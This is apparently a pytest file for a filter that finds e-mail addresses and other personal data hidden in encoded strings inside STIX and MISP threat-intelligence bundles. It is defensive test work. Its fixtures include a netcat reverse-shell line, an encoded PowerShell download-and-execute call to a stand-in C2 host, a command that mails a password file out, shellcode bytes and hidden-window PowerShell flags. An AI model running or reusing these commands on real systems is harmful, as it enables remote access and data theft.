"""Encodings the seventh attack found allowed and the gate reads now (docs/gate.md, "Seventh round:
encodings"): PowerShell's encoded command (base64 of UTF-16LE text), hex bytes with spaces or colons
between them (YARA's `{ 6a 61 6e … }`) or escaped (`\\x6a\\x61`), character codes
(`String.fromCharCode(106,97,…)`, `chr(106)+chr(97)`, `[char]106`), MIME encoded-words, base64 broken
over lines, zlib or gzip inside base64, base64 as a URL path segment, base32 in a query value and
padded base64 standing alone. Each is planted in STIX and MISP: the gate does not allow it, names the
object and the property, and the stripped payload no longer holds the value; clean look-alikes (the
same encodings of threat data, random bytes, digests, MAC addresses) still go."""

from __future__ import annotations

import base64
import gzip
import hashlib
import os
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gate_util import bundle, indicator, raw
from test_gate_forms_round4 import assert_allowed, assert_caught, plant_misp, plant_stix
from wivcheck.engine import Engine, load_library
from wivcheck.engine.gate import encoded
from wivcheck.engine.gate.personal_text import scan


@pytest.fixture(scope="module")
def engine():
    return Engine(load_library())


EMAIL = "jan.devries@gmail.com"
SECRET = f"Send-MailMessage -To {EMAIL} -Body (Get-Content C:\\Users\\jdevries\\Documents\\pw.txt)"


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _utf16(text: str) -> str:
    return _b64(text.encode("utf-16-le"))


def _hex(text: str, sep: str) -> str:
    return sep.join(f"{b:02x}" for b in text.encode())


def _codes(text: str) -> list[int]:
    return [ord(c) for c in text]


def _lines(data: bytes, width: int = 60) -> str:
    b = _b64(data)
    return "\n".join(b[i:i + width] for i in range(0, len(b), width))


def forms(text: str) -> dict[str, tuple[str, str]]:
    """name -> (the text carrying `text` encoded, the encoded part the stripped payload must lose)."""
    enc16 = _utf16(text)
    spaced, colons = _hex(text, " "), _hex(text, ":")
    escaped = "".join(f"\\x{b:02x}" for b in text.encode())
    codes = _codes(text)
    lines = _lines(f"Hi Jan,\n\nPlease contact me at {text} today.\n".encode())
    url64 = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
    b32 = base64.b32encode(text.encode()).decode()
    z = _b64(zlib.compress(f"user={text}".encode()))
    gz = _b64(gzip.compress(f"to: {text}\n".encode()))
    q = text.replace("@", "=40")
    padded = _b64(text.encode() + (b"!" if (len(text.encode()) + 1) % 3 else b"!!"))    # ends in `=`
    return {
        "ps_encodedcommand": (f"powershell.exe -nop -w hidden -EncodedCommand {enc16}", enc16),
        "ps_enc": (f"powershell -enc {enc16}", enc16),
        "ps_e": (f"cmd /c powershell -e {enc16}", enc16),
        "ps_ec": (f"pwsh -ec {enc16}", enc16),
        "yara_hex": (f"rule x {{ strings: $a = {{ {spaced} }} condition: $a }}", spaced),
        "colon_hex": (f"bytes {colons} in memory", colons),
        "escaped_hex": (f"buf = \"{escaped}\"", escaped),
        "fromcharcode": (f"eval(String.fromCharCode({','.join(map(str, codes))}))", ",".join(map(str, codes))),
        "char_array": (f"-join [char[]]({', '.join(map(str, codes))})", ", ".join(map(str, codes))),
        "chr_plus": ("+".join(f"chr({c})" for c in codes), "+".join(f"chr({c})" for c in codes)),
        "ps_char": ("+".join(f"[char]{c}" for c in codes), "+".join(f"[char]{c}" for c in codes)),
        "vba_chr": (" & ".join(f"Chr({c})" for c in codes), " & ".join(f"Chr({c})" for c in codes)),
        "mime_b": (f"Reply-To: =?UTF-8?B?{_b64(text.encode())}?=", _b64(text.encode())),
        "mime_q": (f"Reply-To: =?utf-8?Q?{q}?=", q),
        "url_path": (f"https://track.evil.example/o/{url64}/pixel.gif", url64),
        "b32_query": (f"https://evil.example/c?id={b32}", b32.rstrip("=")),
        "zlib_b64": (z, z),
        "gzip_b64": (gz, gz),
        "padded_b64": (f"exfil token {padded} sent", padded),
        "b64_lines": (f"Body (base64):\n{lines}\n", lines.split("\n")[0]),
    }


ONE_LINE = [k for k in forms(EMAIL) if k != "b64_lines"]


# -- the reading itself ---------------------------------------------------------------------------------

@pytest.mark.parametrize("name", list(forms(EMAIL)))
def test_each_form_is_read(name):
    text, _ = forms(EMAIL)[name]
    got = encoded.hidden(text)
    assert any(f.what.startswith("e-mail address (") for f in got), (name, got)
    assert any("e-mail address (" in f.what for f in scan(text)), name


def test_powershell_encoded_command_names_its_home_folder_too():
    got = {f.what for f in encoded.hidden(forms(SECRET)["ps_encodedcommand"][0])}
    assert "e-mail address (base64-encoded command)" in got
    assert any("home folder" in w for w in got), got


def test_utf16le_bytes_are_text():
    assert encoded._text_of("Get-Process".encode("utf-16-le")) == "Get-Process"
    assert encoded._text_of(b"\xff\xfe" + "whoami /all".encode("utf-16-le")) == "whoami /all"
    assert encoded._text_of(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00") is None


def test_the_markers_say_how_it_was_hidden():
    f = forms(EMAIL)
    whats = lambda k: {x.what for x in encoded.hidden(f[k][0])}   # noqa: E731
    assert "e-mail address (base32-encoded)" in whats("b32_query")
    assert "e-mail address (hex-encoded)" in whats("yara_hex")
    assert "e-mail address (MIME-encoded)" in whats("mime_q")
    assert "e-mail address (written as character codes)" in whats("fromcharcode")


def test_mime_words_are_read_in_their_line_without_repeating_it():
    got = {f.what for f in encoded.hidden("From: =?UTF-8?B?SW52b2ljZXM=?= <jan.devries@gmail.com>")}
    assert "e-mail address (MIME-encoded)" not in got      # the address is plain; scan finds it unmarked


CLEAN = [
    "rule x { strings: $a = { 4d 5a 90 00 03 00 00 00 04 00 00 00 ff ff } condition: $a }",
    "rule x { strings: $a = { 68 74 74 70 3a 2f 2f 63 32 2e 65 76 69 6c 2e 65 78 61 6d 70 6c 65 } condition: $a }",
    "SHA1 Fingerprint=" + ":".join(f"{b:02X}" for b in hashlib.sha1(b"x").digest()),
    "mac 00:1a:2b:3c:4d:5e and eui 00:1a:2b:ff:fe:3c:4d:5e",
    "shellcode \\xfc\\xe8\\x82\\x00\\x00\\x00\\x60\\x89\\xe5\\x31\\xc0\\x64\\x8b",
    "String.fromCharCode(104,116,116,112,58,47,47,99,50,46,101,118,105,108)",
    "chr(99)+chr(109)+chr(100)+chr(46)+chr(101)+chr(120)+chr(101)",
    "powershell.exe -nop -w hidden -enc " + _utf16("IEX (New-Object Net.WebClient).DownloadString('http://c2.evil.example/a')"),
    "Subject: =?UTF-8?B?SW52b2ljZSBkdWUgLSBwbGVhc2UgcGF5?=",
    "Subject: =?iso-8859-1?Q?Factuur_vervalt_vandaag?=",
    "Body:\n" + _lines(hashlib.sha512(b"a").digest() * 6, 76),
    "hashes:\n" + "\n".join(hashlib.sha256(str(i).encode()).hexdigest() for i in range(20)),
    _b64(zlib.compress(b"GET /gate.php?id=42 HTTP/1.1\r\nHost: c2.evil.example\r\n")),
    _b64(gzip.compress(hashlib.sha512(b"b").digest() * 20)),
    "https://cdn.evil.example/a/8f3kD9sLq0ZxWm2N/b/3f2c9a1e-7d4b-4c1a-9e2f-0a1b2c3d4e5f/x.js",
    "https://evil.example/docs/internationalization/index.html",
    "https://evil.example/c?id=JBSWY3DPEHPK3PXP&sig=ABCDEFGHIJKLMNOPQRSTUVWXYZ234567",
    "the key ZXhhbXBsZS1rZXktdmFsdWU= was used",
    "grep -e somethinglongpattern file; nc -e /bin/sh 203.0.113.7 4444",
    "ms17-010 smb 445 10 00 00 00 ff 53 4d 42 72 00 00 00 00",
]


@pytest.mark.parametrize("text", CLEAN)
def test_clean_encodings_are_no_finding(text):
    assert encoded.hidden(text) == (), text


@given(st.binary(min_size=12, max_size=200))
@settings(max_examples=200, deadline=None)
def test_random_bytes_in_every_form_are_no_finding(data):
    b64 = _b64(data)
    texts = [f"powershell -enc {b64}", f"https://x.example/o/{base64.urlsafe_b64encode(data).decode()}/p.gif",
             f"https://x.example/c?id={base64.b32encode(data).decode()}", "{ " + data.hex(" ") + " }",
             data.hex(":"), f"Body:\n{_lines(data)}\n", _b64(zlib.compress(data)), f"key {b64} used"]
    for t in texts:
        got = encoded.hidden(t)
        assert all("e-mail" not in f.what and "phone" not in f.what for f in got), (t, got)


@given(st.from_regex(r"[a-z]{2,10}\.[a-z]{2,12}", fullmatch=True), st.sampled_from(["gmail.com", "outlook.nl"]),
       st.sampled_from(sorted(set(forms(EMAIL)) - {"mime_q"})))
@settings(max_examples=120, deadline=None)
def test_any_address_in_any_form_is_read(local, domain, name):
    text, _ = forms(f"{local}@{domain}")[name]
    assert any("e-mail address (" in f.what for f in encoded.hidden(text)), (name, text)


def test_crafted_input_stays_bounded():
    bomb = _b64(zlib.compress(b"jan " * 5_000_000))           # 20 MB of text, decompressed at most 64 kB
    texts = [bomb, " ".join([bomb[:200] + "=="] * 2000), "=?a?B?" * 50_000, "chr(1)+" * 50_000,
             "6a " * 100_000, "\\x6a" * 100_000, ("A" * 70 + "\n") * 5000, "-e " * 50_000,
             "https://x.example/" + "/".join(["QUFBQUFBQUFBQUFB"] * 20_000)]
    for t in texts:
        start = time.perf_counter()
        encoded.hidden(t)
        assert time.perf_counter() - start < 10, t[:40]


def test_inflating_is_bounded_per_text():
    blob = _b64(zlib.compress(b"x" * 1_000_000))
    encoded.hidden(" ".join([blob] * 50))
    assert encoded._budget.inflated <= encoded._MAX_INFLATED_TEXT


# -- planted in STIX and MISP ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", ONE_LINE)
@pytest.mark.parametrize("where", ["custom", "description", "pattern"])
def test_a_form_in_stix_is_named_and_stripped(engine, name, where):
    text, value = forms(EMAIL)[name]
    doc, key, prop = plant_stix(where, text)
    assert_caught(engine, doc, key, prop, value)


@pytest.mark.parametrize("name", ["ps_enc", "yara_hex", "fromcharcode", "mime_b", "url_path", "zlib_b64"])
@pytest.mark.parametrize("where", ["nested", "observed"])
def test_a_form_elsewhere_in_stix_is_named_and_stripped(engine, name, where):
    text, value = forms(EMAIL)[name]
    doc, key, prop = plant_stix(where, text)
    assert_caught(engine, doc, key, prop, value)


@pytest.mark.parametrize("where", ["custom", "description", "nested"])
def test_base64_over_lines_in_stix_is_named_and_stripped(engine, where):
    text, value = forms(EMAIL)["b64_lines"]
    doc, key, prop = plant_stix(where, text)
    assert_caught(engine, doc, key, prop, value)


@pytest.mark.parametrize("name", ONE_LINE)
@pytest.mark.parametrize("where", ["attribute", "object", "comment"])
def test_a_form_in_misp_is_named_and_stripped(engine, name, where):
    text, value = forms(EMAIL)[name]
    doc, key, prop = plant_misp(where, text)
    assert_caught(engine, doc, key, prop, value)


@pytest.mark.parametrize("where", ["attribute", "proposal", "report"])
def test_base64_over_lines_in_misp_is_named_and_stripped(engine, where):
    text, value = forms(EMAIL)["b64_lines"]
    doc, key, prop = plant_misp(where, text)
    assert_caught(engine, doc, key, prop, value)


def test_the_command_line_of_a_powershell_process_is_read(engine):
    obj = raw("malware", name="ShadowLoader", is_family=True, x_command_line=_utf16(SECRET))
    doc = bundle(indicator(), obj)
    assert_caught(engine, doc, obj["id"], "x_command_line", _utf16(SECRET))


def test_clean_encodings_in_a_bundle_still_go(engine):
    objs = [raw("malware", name="loader", is_family=True, description=t) for t in CLEAN
            if not t.startswith(("SHA1", "mac ", "ms17"))]     # a MAC address, read elsewhere
    assert_allowed(engine, bundle(indicator(), *objs))


@pytest.mark.parametrize("how", ["whole", "unpadded", "segment", "lower"])
def test_base32_is_read_as_a_whole_value_and_a_path_segment(how):
    b32 = base64.b32encode(EMAIL.encode()).decode()
    text = {"whole": b32, "unpadded": b32.rstrip("="), "segment": f"https://x.example/o/{b32}/p.gif",
            "lower": f"https://x.example/o/{b32.lower().rstrip('=')}/p.gif"}[how]
    assert "e-mail address (base32-encoded)" in {f.what for f in encoded.hidden(text)}
